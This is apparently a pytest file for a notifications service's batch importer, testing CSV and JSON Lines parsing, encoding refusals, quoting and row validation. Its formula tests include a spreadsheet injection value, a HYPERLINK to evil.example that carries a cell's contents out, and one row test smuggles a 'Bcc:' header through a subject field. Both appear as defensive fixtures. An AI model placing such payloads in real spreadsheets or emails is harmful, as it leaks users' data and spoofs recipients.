"""Files as they come from the field: read right, or refused by line, and never half understood."""

from __future__ import annotations

import csv
import gzip
from io import BytesIO, StringIO

import pytest
from django.utils import timezone

from notifications.numbers import BODY_BYTES
from notifications.services.batch.accept import accept_batch
from notifications.services.batch.csv_rows import guarded, unguarded
from notifications.services.batch.faults import BadFile
from notifications.services.batch.rows import Format
from tests.notifications.batches import CASES, DEAR, batch_of, guests, recipients, refused, row_counts, said, texts

pytestmark = pytest.mark.usefixtures("seeded")

ROW = "+4915112345601,Ana\n"


def case(folder: str, file: str = "rows.csv") -> bytes:
    return (CASES / folder / file).read_bytes()


def sms(text: str) -> dict:
    return {"sms": {"text": text}}


class TestEncoding:
    def test_a_byte_order_mark_is_no_part_of_the_header(self):
        batch_of(case("csv-bom-first-header"))

        assert texts() == ["Dear José", "Dear Ana"]

    def test_utf_16_is_named(self):
        refusal = refused(case("csv-bom-first-header", "rows_utf16.csv"))

        assert said(refusal) == [(1, "file", "is UTF-16, as Excel's `Unicode text` is")]

    def test_utf_16_without_a_mark_is_said_to_be_no_text(self):
        assert said(refused("to,name\n".encode("utf-16-le")))[0][1] == "file"

    def test_windows_1252_is_refused_by_line_and_byte(self):
        refusal = refused(case("csv-cp1252-and-undefined-byte", "cp1252.csv"), sms("{text} {name}"))

        assert said(refusal) == [
            (2, "row", "is not UTF-8: byte 0xE9 at position 17 of line 2"),
            (3, "row", "is not UTF-8: byte 0x92 at position 15 of line 3"),
        ]

    def test_one_stray_byte_refuses_its_row_alone(self):
        file = case("csv-cp1252-and-undefined-byte", "broken.csv")

        assert said(refused(file)) == [(3, "row", "is not UTF-8: byte 0x81 at position 15 of line 3")]

        batch_of(file, skip_bad_rows=True)
        assert texts() == ["Dear José"]

    def test_a_header_in_another_encoding_is_refused(self):
        assert said(refused(b"to,n\xe4me\n" + ROW.encode()))[0][:2] == (1, "header")

    def test_the_last_line_of_a_long_file_is_read_before_anything_is_stored(self):
        refusal = refused(guests(1500).encode() + b"+4915112345601,\x81\n")

        assert said(refusal)[0][0] == 1502


class TestHeader:
    def test_matches_without_case_and_blanks_and_cells_are_trimmed(self):
        batch_of(
            case("csv-padded-and-capital-headers"),
            {"email": {"subject": "{name}!", "text": "Dear {Name}: {attributes}"}},
        )

        assert recipients() == [{"email": "ana@example.com"}]
        assert texts("email", "subject") == ["Ana!"]
        assert texts("email") == ['Dear Ana: {"plan": "pro"}']

    @pytest.mark.parametrize(
        ("header", "reason"),
        [
            ("name", "has no column with addresses"),
            ("to,nmae", "has no column for `name`"),
            ("to,name,age", "has a column that nothing uses: `age`"),
            ("to,name,", "has a column that nothing uses: ``"),
            ("to,name,Name", "has the same column twice: `name`"),
            ("to,sms,name", "has `to` and another column with addresses"),
            ("to;name", "is not separated by commas"),
            ("to\tname", "is not separated by commas"),
        ],
    )
    def test_at_fault_refuses_the_file(self, header, reason):
        assert said(refused(f"{header}\n{ROW}")) == [(1, "header", reason)]

    @pytest.mark.parametrize(("file", "line"), [("", 1), ("to,name\n", None), ("\n\n", 1), ("to,name\n\n\n", None)])
    def test_without_rows_is_no_batch(self, file, line):
        assert said(refused(file))[0][:2] == (line, "file")


class TestQuotes:
    def test_one_that_is_never_closed_is_named_by_the_line_where_it_opens(self):
        refusal = refused(case("csv-unclosed-quote", "rows_short.csv"), sms("{name} {text}"))

        assert said(refusal)[0][0] == 3
        assert isinstance(refusal, BadFile)

    def test_one_that_would_swallow_thousands_of_rows_is_found_at_the_next(self):
        file = gzip.decompress(case("csv-unclosed-quote", "rows.csv.gz"))
        columns = file.decode().split("\n")[0].strip().split(",")[1:]

        refusal = refused(file, sms(" ".join(f"{{{name}}}" for name in columns)))

        assert said(refusal)[0][0] == 4

    def test_nothing_is_skipped_where_rows_cannot_be_told_apart(self):
        refused(case("csv-unclosed-quote", "rows_short.csv"), sms("{name} {text}"), skip_bad_rows=True)

    def test_rows_between_two_that_happen_to_match_are_not_swallowed(self):
        file = 'to,name\n+4915112345601,"Ana\n+4915112345602,Bo\n+4915112345603,Cy"\n'

        assert said(refused(file)) == [(2, "row", "opens a quote that takes in line 3, a row of its own")]

    def test_a_cell_may_have_line_breaks_commas_and_quotes(self):
        batch_of('to,name\n+4915112345601,"Ana,\nthe ""great""\n\n+49 30 1"\n+4915112345602,Bo\n')

        assert texts() == ['Dear Ana,\nthe "great"\n\n+49 30 1', "Dear Bo"]

    @pytest.mark.parametrize("cell", ['"Ana"x', '"Ana" ,', '"'])
    def test_that_are_not_at_both_ends_refuse_the_file(self, cell):
        assert said(refused(f"to,name\n+4915112345601,{cell}\n"))[0][:2] == (2, "row")

    def test_a_cell_that_goes_on_for_too_long_stops_the_reading(self):
        file = 'to,name\n+4915112345601,"' + "x\n" * BODY_BYTES

        assert said(refused(file))[0][:2] == (2, "row")

    def test_a_line_that_goes_on_for_too_long_stops_the_reading(self):
        assert said(refused("to,name\n" + "x" * (2 * BODY_BYTES)))[0] == (2, "row", "is too long")


class TestRows:
    @pytest.mark.parametrize(
        ("row", "field"),
        [
            ("+4915112345601", "row"),
            ("+4915112345601,Ana,x", "row"),
            (",Ana", "to"),
            ("12,Ana", "to.sms"),
            ("ana@,Ana", "to.email"),
            ("+4915112345601,", "variables.name"),
            ("+4915112345601,a\0b", "variables.name"),
            (f"+4915112345601,{'x' * 1600}", "content.sms.text"),
        ],
    )
    def test_at_fault_are_named(self, row, field):
        assert [fault[:2] for fault in said(refused(f"to,name\n{row}\n{ROW}"))] == [(2, field)]

    def test_a_subject_stays_one_line(self):
        content = {"email": {"subject": "{name}", "text": "Hi"}}

        refusal = refused('to,name\na@example.org,"a\nBcc: b@example.org"\n', content)

        assert said(refusal) == [(2, "content.email.subject", "has a line break")]

    def test_a_reference_is_as_long_as_elsewhere(self):
        refusal = refused(f"to,name,reference\n+4915112345601,Ana,{'x' * 201}\n")

        assert said(refusal)[0][:2] == (2, "reference")

    def test_with_a_code_keep_its_zeros(self):
        batch_of(case("text-code-with-leading-zero"), sms("Your code is {code}."))

        assert texts() == ["Your code is 012345.", "Your code is 000000."]

    def test_with_a_variable_that_looks_like_one_are_not_expanded(self):
        batch_of("to,name,other\n+4915112345601,{other},secret\n", sms("{name} {other}"))

        assert texts() == ["{other} secret"]


class TestFormulas:
    def test_what_was_guarded_against_spreadsheets_comes_in_as_it_was(self):
        batch_of(case("csv-export-import-round-trip"))

        assert recipients() == [{"sms": f"+1415555010{digit}"} for digit in range(4)]
        assert texts() == [
            'Dear =HYPERLINK("http://evil.example/?x=",A1)',
            "Dear @SUM(1)",
            "Dear -5 °C",
            "Dear \tTabbed",
        ]

    @pytest.mark.parametrize(
        "text",
        [
            "+14155550100",
            '=HYPERLINK("x",A1)',
            "@SUM(1)",
            "-5 °C",
            "\tTabbed",
            "'=1",
            "''+1",
            "O'Neil",
            "'s",
            "",
            "Ana",
        ],
    )
    def test_every_text_survives_the_way_out_and_in(self, text):
        out = StringIO()
        csv.writer(out).writerow([guarded(text)])
        (cell,) = next(csv.reader([out.getvalue()]))

        assert not cell.startswith(("=", "+", "-", "@", "\t"))
        assert unguarded(cell) == text


class TestJsonLines:
    @pytest.mark.parametrize(
        ("line", "field"),
        [
            ("{", "row"),
            ("[]", "row"),
            ("NaN", "row"),
            ("[" * 100_000, "row"),
            ('{"to": "+4915112345601", "variables": {"name": NaN}}', "row"),
            ('{"to": "+4915112345601", "variables": {"name": "Ana"}, "text": "x"}', "row"),
            ('{"to": 49151, "variables": {"name": "Ana"}}', "to"),
            ('{"to": {"pigeon": "x"}, "variables": {"name": "Ana"}}', "to"),
            ('{"variables": {"name": "Ana"}}', "to"),
            ('{"to": {"sms": 49151}, "variables": {"name": "Ana"}}', "to.sms"),
            ('{"to": "+4915112345601", "variables": []}', "variables.name"),
            ('{"to": "+4915112345601", "variables": "Ana"}', "variables"),
            ('{"to": "+4915112345601", "variables": {"name": "Ana", "nmae": 1}}', "variables"),
            ('{"to": "+4915112345601", "variables": {"name": null}}', "variables.name"),
            ('{"to": "+4915112345601", "variables": {"name": ["Ana"]}}', "variables.name"),
            ('{"to": "+4915112345601", "variables": {"name": 1e999999}}', "variables.name"),
            ('{"to": "+4915112345601", "variables": {"name": "\\ud83d"}}', "variables.name"),
            ('{"to": "+4915112345601", "variables": {"name": "Ana"}, "reference": 7}', "reference"),
        ],
    )
    def test_at_fault_are_named(self, line, field):
        good = '{"to": "+4915112345601", "variables": {"name": "Ana"}}\n'

        assert said(refused(f"{good}{line}\n", file_format=Format.JSONL))[0][:2] == (2, field)

    def test_with_a_stray_byte_are_named(self):
        assert said(refused(b'{"to": "\x81"}\n', file_format=Format.JSONL))[0][:2] == (1, "row")


class TestFirstLine:
    @pytest.mark.parametrize("line", ["", "to,name", "{}", '{"batch": []}', '{"batch": {}, "to": 1}', '{"batch": {}'])
    def test_must_have_the_fields_when_nothing_else_has(self, line):
        with pytest.raises(BadFile):
            accept_batch(BytesIO(f"{line}\n{ROW}".encode()), Format.CSV, client_name="internal", now=timezone.now())

        assert row_counts() == (0, 0, 0, 0)

    def test_is_a_row_like_any_other_when_something_has(self):
        line = '{"batch": {"content": {"sms": {"text": "x"}}}}\n'

        assert said(refused(line, DEAR, file_format=Format.JSONL))[0][:2] == (1, "row")
